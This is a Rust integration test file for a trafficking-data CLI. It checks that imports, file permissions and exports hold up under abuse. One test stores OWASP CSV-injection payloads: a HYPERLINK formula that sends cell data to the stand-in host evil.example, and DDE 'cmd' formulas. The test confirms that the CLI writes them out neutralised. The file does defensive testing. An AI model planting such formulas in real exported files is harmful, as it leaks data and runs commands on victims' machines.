//! The importers, store and CLI under abuse (issue #10, part 1): each test
//! runs the attack or the careless action through the binary and checks
//! that nothing is lost and nothing leaks.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{cases_import, palermo, stderr, stdout, Dir};

const GLOTIP_HEADER: &str = "Iso3_code,Country,Region,Subregion,Indicator,Dimension,Category,Sex,Age,Year,Unit of measurement,txtVALUE,Source\n";
const MDA_2019: &str = "MDA,Republic of Moldova,Europe,Eastern Europe,Detected trafficking victims,Total,Total,Total,Total,2019,Counts,3,GLOTIP\n";

/// Cells stored in dataset `glotip` (from `stats indicators`' coverage is
/// indirect; the store says it directly).
fn glotip_cells(dir: &std::path::Path) -> u64 {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(async {
            let store = palermo_store::Store::open(&dir.join("palermo.db"))
                .await
                .unwrap();
            store
                .stat_datasets()
                .await
                .unwrap()
                .iter()
                .find(|s| s.dataset == "glotip")
                .map_or(0, |s| s.rows.1)
        })
}

/// Item 1: a GLOTIP file with 1 valid row among many rejected ones does not
/// replace the 46,556 bundled cells: refused, counts named, exit status 1;
/// with --force it replaces them and exits 3 (rows rejected).
#[test]
fn a_reimport_rejecting_almost_every_row_does_not_replace_the_dataset() {
    let d = Dir::new("shrink-stats");
    // Seeds the bundled table (46,556 cells: UNODC's portal file).
    let out = palermo(
        &d.0,
        &["stats", "indicators", "--from", "2019", "--to", "2019"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(glotip_cells(&d.0), 46_556);
    let mut bad = String::from(GLOTIP_HEADER);
    bad.push_str(MDA_2019);
    for _ in 0..2_000 {
        bad.push_str("MDA,Republic of Moldova,Europe,Eastern Europe,Detected trafficking victims,Total,Total,Total,Total,not a year,Counts,3,GLOTIP\n");
    }
    d.file("bad.csv", &bad);
    let out = palermo(&d.0, &["stats", "import", "bad.csv"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("2000 of 2001 rows were rejected") && err.contains("46556 stored rows by 1"),
        "{err}"
    );
    assert!(err.contains("--force"), "{err}");
    assert_eq!(glotip_cells(&d.0), 46_556);

    let out = palermo(&d.0, &["stats", "import", "bad.csv", "--force"]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("2000 row(s) rejected"),
        "{}",
        stderr(&out)
    );
    assert_eq!(glotip_cells(&d.0), 1);
}

/// Item 1: a valid but far smaller file (1 cell for 46,556) is refused too;
/// a file whose every row is stored exits 0.
#[test]
fn a_far_smaller_reimport_is_refused_and_a_clean_import_exits_0() {
    let d = Dir::new("shrink-small");
    let out = palermo(
        &d.0,
        &["stats", "indicators", "--from", "2019", "--to", "2019"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    d.file("one.csv", &format!("{GLOTIP_HEADER}{MDA_2019}"));
    let out = palermo(&d.0, &["stats", "import", "one.csv"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("it would replace 46556 stored rows by 1 (fewer than 50%)"),
        "{}",
        stderr(&out)
    );
    assert_eq!(glotip_cells(&d.0), 46_556);
    // Into a dataset of its own: nothing replaced, every row stored.
    let out = palermo(&d.0, &["stats", "import", "one.csv", "--dataset", "mine"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

/// Item 1 for case records: an agency's 100 records are not replaced by a
/// file in which 99 of 100 rows are rejected.
#[test]
fn a_case_reimport_rejecting_almost_every_row_keeps_the_source() {
    let d = Dir::new("shrink-cases");
    let good: String = std::iter::once("prs_Gender,vic_TypeOfExploitation,prs_Citizenship\n")
        .chain(std::iter::repeat_n("Feminine,Other,MD\n", 100))
        .collect();
    d.file("a.csv", &good);
    let out = cases_import(&d.0, "a.csv", "police", "htcds-csv", &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let bad: String = std::iter::once("prs_Gender,vic_TypeOfExploitation,prs_Citizenship\n")
        .chain(std::iter::once("Feminine,Other,MD\n"))
        .chain(std::iter::repeat_n("Feminine,Other,XX\n", 99))
        .collect();
    d.file("b.csv", &bad);
    let out = cases_import(&d.0, "b.csv", "police", "htcds-csv", &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("99 of 100 rows were rejected"),
        "{}",
        stderr(&out)
    );
    let sources = palermo(&d.0, &["cases", "sources"]);
    assert!(
        stdout(&sources).contains("100 read, 100 stored, 0 rejected"),
        "{}",
        stdout(&sources)
    );
}

/// The permission bits of `p`.
#[cfg(unix)]
fn mode(p: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

/// Item 10: the database (raw case records, the noise secret) and the
/// report of rejected rows (their values) are created readable by their
/// owner only, whatever the umask; an existing database open to others is
/// opened with a warning that says how to close it.
#[cfg(unix)]
#[test]
fn database_and_reports_are_created_private() {
    use std::os::unix::fs::PermissionsExt;
    let d = Dir::new("perm");
    d.file(
        "h.csv",
        "prs_Gender,vic_TypeOfExploitation,prs_Citizenship\nFeminine,Other,MD\nFeminine,Other,XX\n",
    );
    // A report left by an earlier run, readable by everyone.
    let report = d.file("h.csv.rejected.csv", "old");
    std::fs::set_permissions(&report, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = cases_import(&d.0, "h.csv", "h", "htcds-csv", &[]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    let db = d.0.join("palermo.db");
    assert_eq!(mode(&db), 0o600);
    assert_eq!(mode(&report), 0o600);
    assert!(std::fs::read_to_string(&report).unwrap().contains("XX"));
    assert!(!d.0.join("h.csv.rejected.csv.partial").exists());
    assert!(!stderr(&out).contains("other users"), "{}", stderr(&out));

    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = palermo(&d.0, &["cases", "sources"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("can be read by other users (mode 0644)")
            && stderr(&out).contains("chmod 600"),
        "{}",
        stderr(&out)
    );
}

/// Smaller item: a disk that fills up while the report of rejected rows is
/// written (simulated with the file-size limit, `ulimit -f`, SIGXFSZ
/// ignored so that writes fail with EFBIG as on a full disk) leaves no
/// partial report behind, and nothing is imported.
#[cfg(unix)]
#[test]
fn a_full_disk_leaves_no_partial_report() {
    let d = Dir::new("fulldisk");
    let mut rows = String::from("prs_Gender,vic_TypeOfExploitation,prs_Citizenship\n");
    for _ in 0..10 {
        rows.push_str("Feminine,Other,MD\n");
    }
    let long = "X".repeat(70);
    for _ in 0..20_000 {
        rows.push_str(&format!("Feminine,Other,{long}\n"));
    }
    d.file("h.csv", &rows);
    // The database is made (and seeded) before the limit applies.
    assert!(palermo(&d.0, &["cases", "sources"]).status.success());
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "ulimit -f 400; trap '' XFSZ; exec '{}' cases import h.csv --source s --format htcds-csv",
            env!("CARGO_BIN_EXE_palermo")
        ))
        .current_dir(&d.0)
        .env_remove("PALERMO_DB")
        .env("PALERMO_LOG", "warn")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("nothing was imported"),
        "{}",
        stderr(&out)
    );
    assert!(!d.0.join("h.csv.rejected.csv").exists());
    assert!(!d.0.join("h.csv.rejected.csv.partial").exists());
    let sources = palermo(&d.0, &["cases", "sources"]);
    assert!(!stdout(&sources).contains("h.csv"), "{}", stdout(&sources));
}

/// Every field of a CSV text.
fn csv_fields(text: &str) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// OWASP's example payloads (CSV Injection page).
const FORMULAS: [&str; 3] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
];

/// Item 8: formulas planted in imported files come out of every CSV the CLI
/// writes (the report of rejected rows, `cases export`, `stats indicators
/// --format csv`) behind a single quote, never as a formula.
#[test]
fn formulas_in_imported_values_are_neutralised_in_every_csv_written() {
    let d = Dir::new("csv-inj");
    let q = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    // CTDC: a formula as data source (stored), another as gender (rejected).
    let mut ctdc = String::from(
        "yearOfRegistration,gender,ageBroad,citizenship,CountryOfExploitation,Datasource\n",
    );
    for _ in 0..3 {
        ctdc.push_str(&format!("2019,Woman,9--17,MDA,ROU,{}\n", q(FORMULAS[0])));
    }
    ctdc.push_str(&format!("2019,{},9--17,MDA,ROU,NGO\n", q(FORMULAS[1])));
    d.file("c.csv", &ctdc);
    let out = cases_import(&d.0, "c.csv", "ngo", "ctdc", &[]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    let report = std::fs::read_to_string(d.0.join("c.csv.rejected.csv")).unwrap();
    let export = palermo(&d.0, &["cases", "export"]);
    assert!(export.status.success(), "{}", stderr(&export));
    // GLOTIP: a formula as region.
    d.file(
        "s.csv",
        &format!(
            "{GLOTIP_HEADER}MDA,Republic of Moldova,{},Eastern Europe,Detected trafficking victims,Total,Total,Total,Total,2019,Counts,3,GLOTIP\n",
            q(FORMULAS[2])
        ),
    );
    let out = palermo(&d.0, &["stats", "import", "s.csv", "--dataset", "inj"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let ind = palermo(
        &d.0,
        &[
            "stats",
            "indicators",
            "--dataset",
            "inj",
            "--by",
            "region",
            "--format",
            "csv",
        ],
    );
    assert!(ind.status.success(), "{}", stderr(&ind));
    for (what, text, planted) in [
        ("report", report, FORMULAS[1]),
        ("cases export", stdout(&export), FORMULAS[0]),
        ("stats indicators", stdout(&ind), FORMULAS[2]),
    ] {
        let fields = csv_fields(&text);
        assert!(
            fields.contains(&format!("'{planted}")),
            "{what}: the value is kept, behind a quote: {text}"
        );
        for f in fields {
            assert!(
                !f.starts_with(['=', '+', '@', '\t', '\r']),
                "{what}: a formula reached the CSV: {f:?}"
            );
        }
    }
}

/// A victim's data as a QA pass might leave it in a file.
const VICTIM: &str = "Maria Lopez,1990-02-03";

fn assert_no_victim(out: &std::process::Output) {
    common::assert_not_on_terminal(out, &["Maria", "1990-02-03"]);
}

/// Item 9: a case file without its header line (the first line is a
/// record) is refused without printing that record, in every layout; so is
/// a JSON array of strings; a first line of 10 MB gives a message of
/// bounded length.
#[test]
fn no_value_on_the_terminal_and_messages_are_bounded() {
    let d = Dir::new("no-value");
    d.file(
        "ctdc.csv",
        &format!("{VICTIM},MDA,ROU,Woman\n2019,Woman,9--17,MDA\n"),
    );
    d.file(
        "h.csv",
        &format!("{VICTIM},Feminine,Other\nFeminine,Other,MD\n"),
    );
    d.file(
        "twice.csv",
        "Maria Lopez,Maria Lopez,Feminine\nFeminine,Other,MD\n",
    );
    d.file("s.json", "[\"Maria Lopez 1990-02-03\", {\"prs_Gender\": \"Feminine\", \"vic_TypeOfExploitation\": \"Other\"}]");
    for (file, format) in [
        ("ctdc.csv", "ctdc"),
        ("h.csv", "htcds-csv"),
        ("twice.csv", "htcds-csv"),
        ("s.json", "htcds-json"),
    ] {
        let out = cases_import(&d.0, file, "x", format, &[]);
        assert_ne!(out.status.code(), Some(0), "{file}: {}", stderr(&out));
        assert_no_victim(&out);
    }
    let out = palermo(&d.0, &["stats", "import", "h.csv", "--dataset", "t"]);
    assert_eq!(out.status.code(), Some(1));
    assert_no_victim(&out);

    // A 10 MB first line.
    let huge = format!("{}\nFeminine,Other,MD\n", "Maria Lopez ".repeat(900_000));
    d.file("huge.csv", &huge);
    for format in ["ctdc", "htcds-csv"] {
        let out = cases_import(&d.0, "huge.csv", "x", format, &[]);
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        assert!(stderr(&out).len() < 4_000, "{} bytes", stderr(&out).len());
        assert_no_victim(&out);
    }
}

/// Smaller items: a field of 1 MB is rejected, not stored; a header of
/// 10,000 columns is refused; a JSON record that repeats a key is rejected
/// (which value holds would be a guess); the NUL-byte error names the line
/// the NUL byte is on.
#[test]
fn long_fields_wide_headers_repeated_keys_and_nul_bytes() {
    let d = Dir::new("smaller");
    let long = "A".repeat(1 << 20);
    d.file(
        "long.csv",
        &format!("yearOfRegistration,gender,ageBroad,citizenship,CountryOfExploitation,Datasource\n2019,Woman,9--17,MDA,ROU,NGO\n2019,Woman,9--17,MDA,ROU,{long}\n"),
    );
    let out = cases_import(&d.0, "long.csv", "long", "ctdc", &[]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("line 3, field Datasource: a value of 1048576 bytes"),
        "{}",
        stderr(&out)
    );
    let export = palermo(&d.0, &["cases", "export"]);
    assert!(!stdout(&export).contains("AAAA"));

    let mut wide: String = (0..10_000).map(|i| format!("c{i},")).collect();
    wide.push_str("prs_Gender,vic_TypeOfExploitation\n");
    d.file("wide.csv", &wide);
    let out = cases_import(&d.0, "wide.csv", "wide", "htcds-csv", &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("the header has 10002 columns"),
        "{}",
        stderr(&out)
    );

    d.file(
        "dup.json",
        "[{\"prs_Gender\": \"Feminine\", \"vic_TypeOfExploitation\": \"Other\"},\n {\"prs_Gender\": \"Feminine\", \"prs_Gender\": \"Masculine\", \"vic_TypeOfExploitation\": \"Other\"}]",
    );
    let out = cases_import(&d.0, "dup.json", "dup", "htcds-json", &[]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("record 2 (line 2), field prs_Gender: the key appears twice"),
        "{}",
        stderr(&out)
    );

    d.file(
        "nul.csv",
        "prs_Gender,vic_TypeOfExploitation\nFeminine,Other\nFeminine,Other\nFemi\0nine,Other\n",
    );
    let out = cases_import(&d.0, "nul.csv", "nul", "htcds-csv", &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("nul.csv: line 4: the file contains NUL bytes"),
        "{}",
        stderr(&out)
    );
}

/// Smaller item: a database on a read-only file system is opened read-only
/// and read (`stats indicators` answers), and an import says why it cannot
/// write. The read-only mount is made in a private mount namespace
/// (`unshare --mount`, as root); where that is not allowed the test says so
/// and stops.
#[cfg(target_os = "linux")]
#[test]
fn a_database_on_a_read_only_file_system_is_read_and_says_why_it_cannot_write() {
    let d = Dir::new("rofs");
    // A seeded database with the GLOTIP table, made while writable.
    let out = palermo(
        &d.0,
        &["stats", "indicators", "--from", "2019", "--to", "2019"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let writable = stdout(&out);
    d.file("one.csv", &format!("{GLOTIP_HEADER}{MDA_2019}"));
    let bin = env!("CARGO_BIN_EXE_palermo");
    let dir = d.0.display().to_string();
    let script = format!(
        "mount --bind '{dir}' '{dir}' && mount -o remount,ro,bind '{dir}' || exit 97; cd '{dir}' || exit 98; \
         '{bin}' stats indicators --from 2019 --to 2019; echo \"read=$?\"; \
         '{bin}' stats import one.csv --dataset z 2>&1; echo \"import=$?\""
    );
    let out = std::process::Command::new("unshare")
        .args(["--mount", "sh", "-c", &script])
        .env_remove("PALERMO_DB")
        .env("PALERMO_LOG", "warn")
        .output();
    let Ok(out) = out else {
        eprintln!("skipped: unshare is not available");
        return;
    };
    if out.status.code() == Some(97) || (!out.status.success() && stdout(&out).is_empty()) {
        eprintln!(
            "skipped: no private read-only mount here ({})",
            stderr(&out)
        );
        return;
    }
    let text = stdout(&out);
    // Read: the same table as when the file system was writable.
    assert!(text.contains("read=0"), "{text}\n{}", stderr(&out));
    assert!(text.starts_with(&writable), "{text}");
    assert!(
        stderr(&out).contains("on a read-only file system: opened read-only"),
        "{}",
        stderr(&out)
    );
    // Write: refused, saying why.
    assert!(text.contains("import=1"), "{text}");
    assert!(
        text.contains("the database is read-only (read-only file system: nothing can be imported)"),
        "{text}"
    );
}

/// QA: `stats import` printed a rejected cell's value ("SYNTHMARK2 is not
/// a count"); the terminal gets line, field and reason only.
#[test]
fn stats_import_names_no_rejected_value() {
    let d = Dir::new("stats-value");
    let bad = MDA_2019
        .replace(",3,", ",SYNTHMARK2,")
        .replace("2019", "2018");
    assert_ne!(bad, MDA_2019, "the fixture has the count 3");
    d.file("gl.csv", &format!("{GLOTIP_HEADER}{MDA_2019}{bad}"));
    for extra in [&[][..], &["--strict"][..]] {
        let out = palermo(
            &d.0,
            &[
                &["stats", "import", "gl.csv", "--dataset", "q", "--force"][..],
                extra,
            ]
            .concat(),
        );
        common::assert_not_on_terminal(&out, &["SYNTHMARK2"]);
        assert!(stderr(&out).contains("field txtVALUE"), "{}", stderr(&out));
    }
}

/// Smaller item: unknown columns below the 1,000-column bound are no
/// longer ignored silently: one warning per file names their positions and
/// headers (never a value), and the import goes on.
#[test]
fn unknown_columns_are_named_once_per_file() {
    let d = Dir::new("unknown-cols");
    d.file(
        "extra.csv",
        "yearOfRegistration,gendre,gender,ageBroad,citizenship,CountryOfExploitation,notes\n2019,Maria,Woman,9--17,MDA,ROU,1990-02-03\n2020,Maria,Man,18--20,MDA,ROU,1990-02-03\n",
    );
    let out = cases_import(&d.0, "extra.csv", "x", "ctdc", &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let err = stderr(&out);
    assert_eq!(
        err.matches("warning: extra.csv: columns 2 (gendre), 7 (notes) of the header are no CTDC fields; they are ignored").count(),
        1,
        "{err}"
    );
    assert_no_victim(&out);
    d.file(
        "extra.json",
        "[{\"prs_Gender\": \"Feminine\", \"vic_TypeOfExploitation\": \"Other\", \"vic_Mood\": \"Maria\"}]",
    );
    let out = cases_import(&d.0, "extra.json", "y", "htcds-json", &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("warning: extra.json: column 3 (vic_Mood) of the header is no HTCDS field; it is ignored"),
        "{}",
        stderr(&out)
    );
    assert_no_victim(&out);
}
